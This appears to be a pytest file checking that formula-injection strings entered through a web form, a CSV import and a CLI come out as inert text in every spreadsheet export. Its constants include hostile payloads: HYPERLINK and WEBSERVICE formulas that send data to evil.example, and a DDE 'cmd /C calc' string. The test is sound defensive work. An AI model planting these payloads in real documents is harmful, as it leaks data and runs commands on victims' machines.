"""Formulas typed by users come out of every spreadsheet as inert text.

Planted three ways into a copy of the demo, as an attacker among OPD staff would: through the
Input page (AppTest), through `monev import` of a CSV, and through the CLI. After a real
refresh (projection, dbt build, publish) every mart is exported as XLSX and CSV, and so are the
Permendagri 86 form and the prefilled import templates; no cell may be a formula
(openpyxl ``data_type != 'f'``), no CSV field may start with a formula character, and the
planted texts must be there (as text), so the check cannot pass by losing them.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest
from typer.testing import CliRunner

from apps.cli import context
from apps.cli.main import app as cli_app
from apps.spreadsheets.export import evaluation_form_bytes, mart_bytes, mart_names, open_warehouse
from apps.spreadsheets.inert import TRIGGERS
from apps.spreadsheets.templates import template_bytes
from apps.streamlit import auth
from eventstore.bootstrap import build_application

pytestmark = [pytest.mark.xdist_group("dashboard"), pytest.mark.slow]

QUARTER = "2017-Q4"
THROUGH_INPUT = '=HYPERLINK("http://evil.example/?"&A1,"Klik untuk detail")'
THROUGH_INPUT_2 = "+1+2"
THROUGH_CLI = "@SUM(1+1)*cmd|' /C calc'!A0"
THROUGH_CLI_2 = "-2+3"
THROUGH_IMPORT = '=WEBSERVICE("http://evil.example/")'
PLANTED = (THROUGH_INPUT, THROUGH_INPUT_2, THROUGH_CLI, THROUGH_CLI_2, THROUGH_IMPORT)


@pytest.fixture
def cli_home(writable_home: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    monkeypatch.setenv("MONEV_HOME", str(writable_home.home))
    monkeypatch.setenv("MONEV_EVENT_STORE", "sqlite")
    monkeypatch.delenv("MONEV_USERS_FILE", raising=False)
    monkeypatch.delenv("MONEV_CONFIG", raising=False)
    context.settings.cache_clear()
    context.application.cache_clear()
    yield writable_home
    context.settings.cache_clear()
    context.application.cache_clear()


def cli(*args: str) -> str:
    result = CliRunner().invoke(cli_app, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def plant_through_the_input_page(
    home: Any, dashboard_env: Callable[..., None], dashboard_app: Path
) -> None:
    dashboard_env(home, public_read="0")
    at = AppTest.from_file(str(dashboard_app), default_timeout=120)
    at.query_params["q"] = QUARTER
    at.session_state[auth.SESSION_USER] = "opd-diskopukm"
    at.run()
    at.switch_page("views/input.py").run()
    at.selectbox(key="form").set_value("correct_evaluation").run()
    at.selectbox(key="co_activity").set_value("A-DISKOP-01")
    at.selectbox(key="co_quarter").set_value(QUARTER)
    at.text_input(key="co_physical").set_value("77,0")
    at.text_input(key="co_rp").set_value("99.000.000")
    at.text_input(key="co_indicator").set_value("390")
    at.text_area(key="co_drivers").set_value(THROUGH_INPUT)
    at.text_area(key="co_obstacles").set_value(THROUGH_INPUT_2)
    at.text_area(key="co_reason").set_value("Uji injeksi rumus")
    next(b for b in at.button if b.label == "Simpan").click().run()
    assert not at.exception
    assert not at.error, [e.value for e in at.error]
    assert at.success


def plant_through_an_import(home: Any, tmp_path: Path) -> None:
    """A follow-up CSV from the staff of an agency with an open recommendation."""
    app = build_application(home.settings)
    try:
        template = load_workbook(io.BytesIO(template_bytes(app, "followups")), read_only=True)
        lists = next(iter(template["Daftar"].iter_rows(values_only=True, max_row=2)))
        header, first = list(lists), None
        for row in template["Daftar"].iter_rows(min_row=2, values_only=True):
            first = row[header.index("Daftar rekomendasi")]
            break
        assert first, "the demo has an open recommendation"
        opd = app.get_recommendation(str(first)).opd_code
    finally:
        app.close()
    path = tmp_path / "tindak-lanjut.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, delimiter=";")
        writer.writerow(["kode_rekomendasi", "triwulan", "tindak_lanjut", "selesai"])
        writer.writerow([first, QUARTER, THROUGH_IMPORT, "tidak"])
    output = cli("--user", f"opd-{opd.lower()}", "import", str(path))
    assert "1 baris disimpan" in output, output


def plant_through_the_cli() -> None:
    cli(
        "--user", "opd-disperta", "evaluation", "correct", "A-DISPERTA-01", QUARTER,
        "--physical", "80", "--financial", "10.000.000", "--indicator", "5",
        "--reason", "Uji injeksi rumus", "--drivers", THROUGH_CLI, "--obstacles", THROUGH_CLI_2,
    )  # fmt: skip


def shown_as_text_on_the_dashboard(
    home: Any, dashboard_env: Callable[..., None], dashboard_app: Path
) -> None:
    """The planted drivers on *Kinerja OPD*: a text element, in no Markdown."""
    dashboard_env(home, public_read="0")
    at = AppTest.from_file(str(dashboard_app), default_timeout=120)
    at.query_params.update({"q": QUARTER, "opd": "DISKOPUKM", "kegiatan": "A-DISKOP-01"})
    at.session_state[auth.SESSION_USER] = "pimpinan"
    at.run()
    at.switch_page("views/kinerja_opd.py").run()
    assert not at.exception
    assert THROUGH_INPUT in [element.value for element in at.text]
    assert not any(THROUGH_INPUT in element.value for element in at.markdown)


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def xlsx_cells(data: bytes) -> Iterator[Any]:
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_a_formula_planted_through_input_import_and_cli_is_inert_in_every_export(
    cli_home: Any,
    dashboard_env: Callable[..., None],
    dashboard_app: Path,
    refresh_dashboard: Callable[[Any], None],
    tmp_path: Path,
) -> None:
    home = cli_home
    plant_through_the_input_page(home, dashboard_env, dashboard_app)
    plant_through_an_import(home, tmp_path)
    plant_through_the_cli()
    refresh_dashboard(home.settings)
    shown_as_text_on_the_dashboard(home, dashboard_env, dashboard_app)

    files: dict[str, bytes] = {}
    with open_warehouse(home.warehouse) as connection:
        for mart in mart_names(connection):
            for file_format in ("csv", "xlsx"):
                files[f"{mart}.{file_format}"] = mart_bytes(connection, mart, None, file_format)
        for opd in ("DISKOPUKM", "DISPERTA"):
            files[f"form-{opd}.xlsx"] = evaluation_form_bytes(connection, opd, QUARTER)
    app = build_application(home.settings)
    try:
        for kind, opd in (("evaluations", "DISKOPUKM"), ("evaluations", "DISPERTA"),
                          ("followups", "DISKOPUKM")):  # fmt: skip
            data = template_bytes(app, kind, opd=opd, quarter=QUARTER)
            files[f"template-{kind}-{opd}.xlsx"] = data
    finally:
        app.close()

    found: dict[str, set[str]] = {text: set() for text in PLANTED}
    numbers = 0
    for name, data in files.items():
        if name.endswith(".xlsx"):
            for cell in xlsx_cells(data):
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.quotePrefix, (name, cell.coordinate)
                numbers += isinstance(cell.value, int | float)
                if cell.value in found:
                    found[cell.value].add(name)
        else:
            for row in csv.reader(io.StringIO(data.decode("utf-8"))):
                for field in row:
                    # A negative number stays a number; only text is neutralised.
                    assert not field.startswith(TRIGGERS) or is_number(field), (name, field)
                    if field.startswith("'") and field[1:] in found:
                        found[field[1:]].add(name)
    assert numbers > 100, "numbers stay numbers"
    for text, where in found.items():
        assert any(n.endswith(".xlsx") for n in where), f"{text!r} is in no workbook"
        assert any(n.endswith(".csv") for n in where), f"{text!r} is in no CSV"
        if text != THROUGH_IMPORT:
            assert any(n.startswith("form-") for n in where), f"{text!r} is not on the form"
